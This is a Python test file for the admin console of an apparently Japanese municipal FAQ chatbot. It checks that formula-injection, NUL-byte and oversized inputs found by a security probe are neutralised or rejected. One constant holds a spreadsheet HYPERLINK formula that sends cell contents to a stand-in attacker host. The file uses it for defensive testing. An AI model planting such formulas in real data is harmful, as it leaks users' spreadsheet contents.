"""The security probe's console findings (issue #16 §1.2, §1.5, §1.7), each reproduced first."""

from __future__ import annotations

import csv
import io
import os
import re
import time

from sqlalchemy import select

from faq.models import FaqEntry
from tests.admin.test_console import csrf, login, make_staff
from tests.helpers import body_of, post_webhook, text_event

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'


def test_residents_formulas_are_neutralised_in_dashboard_csv(app, client, fake_line) -> None:
    for _ in range(2):
        post_webhook(app.test_client(), body_of(text_event(FORMULA)))
    with app.extensions["machimado"].sessions() as session:  # and an FAQ question that a spreadsheet would run
        entry = session.scalars(select(FaqEntry).where(FaqEntry.key == "gomi-sodai")).one()
        entry.question = "-粗大ごみの出し方"
        session.commit()
    post_webhook(app.test_client(), body_of(text_event("粗大ごみの出し方")))
    login(client, make_staff(app)["viewer"])
    for name, cell in (("unanswered", FORMULA), ("top", "-粗大ごみの出し方")):
        response = client.get(f"/admin/dashboard/{name}.csv")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # once
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
        cells = [row[0] for row in rows[1:]]
        assert "'" + cell in cells and cell not in cells, name


def test_faq_csv_export_neutralises_and_import_restores_exactly(app, client) -> None:
    login(client, make_staff(app)["editor"])
    with app.extensions["machimado"].sessions() as session:
        entry = session.scalars(select(FaqEntry).order_by(FaqEntry.id)).first()
        entry.answer, entry.department = "-5度以下の日は=SUM(A1)ではなく窓口へ", "@税務課"
        session.commit()
        entry_id = entry.id
    exported = client.get("/admin/faq/export.csv")
    assert exported.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = exported.data.decode("utf-8-sig")
    assert "'-5度以下の日は" in text and "'@税務課" in text
    response = client.post("/admin/faq/import", data={"csrf_token": csrf(client, "/admin/faq"),
                                                      "file": (io.BytesIO(exported.data), "faq.csv")},
                           content_type="multipart/form-data", follow_redirects=True)
    assert "新規 0件、更新 0件、変更なし 151件" in response.text
    with app.extensions["machimado"].sessions() as session:
        entry = session.get(FaqEntry, entry_id)
        assert (entry.answer, entry.department) == ("-5度以下の日は=SUM(A1)ではなく窓口へ", "@税務課")


def test_nul_in_queries_forms_and_file_names_is_a_clear_400(app, client) -> None:
    login(client, make_staff(app)["admin"])
    response = client.get("/admin/faq?q=住民票%00")
    assert response.status_code == 400 and "NUL" in response.text
    token = csrf(client, "/admin/faq/new")
    assert client.post("/admin/faq/new", data={"csrf_token": token, "question": "a\x00b", "answer": "x"}
                       ).status_code == 400
    response = client.post("/admin/faq/import", data={"csrf_token": token, "file": (io.BytesIO(b"id"), "f\x00.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 400


def test_odd_ids_and_tokens_are_refused_not_crashed_on(app, client) -> None:
    login(client, make_staff(app)["admin"])
    token = csrf(client, "/admin/inbox")
    assert client.post("/admin/inbox/handled", data={"csrf_token": token, "ids": "²,１,99999999999999999999"}
                       ).status_code == 404
    response = client.post("/admin/directory/import", data={"csrf_token": token, "kind": "aed", "token": "a" * 5000})
    assert response.status_code == 400


def test_unconfirmed_directory_previews_are_deleted_after_an_hour(app, client) -> None:
    login(client, make_staff(app)["admin"])
    token = csrf(client, "/admin/directory")
    uploads = os.path.join(app.instance_path, "uploads")
    csv_bytes = "名称,住所,緯度,経度\n市民体育館,本町1-1,35.0,135.0\n".encode()
    preview = client.post("/admin/directory/import", data={"csrf_token": token, "kind": "facilities",
                                                           "file": (io.BytesIO(csv_bytes), "f.csv")},
                          content_type="multipart/form-data")
    assert preview.status_code == 200
    kept = re.search(r'name="token" value="([^"]+)"', preview.text).group(1)
    files = os.listdir(uploads)
    assert len(files) == 1 and kept in files[0]
    old = time.time() - 2 * 3600
    os.utime(os.path.join(uploads, files[0]), (old, old))
    client.post("/admin/directory/import", data={"csrf_token": token, "kind": "facilities",
                                                 "file": (io.BytesIO(csv_bytes), "f.csv")},
                content_type="multipart/form-data")
    assert kept not in " ".join(os.listdir(uploads)) and len(os.listdir(uploads)) == 1
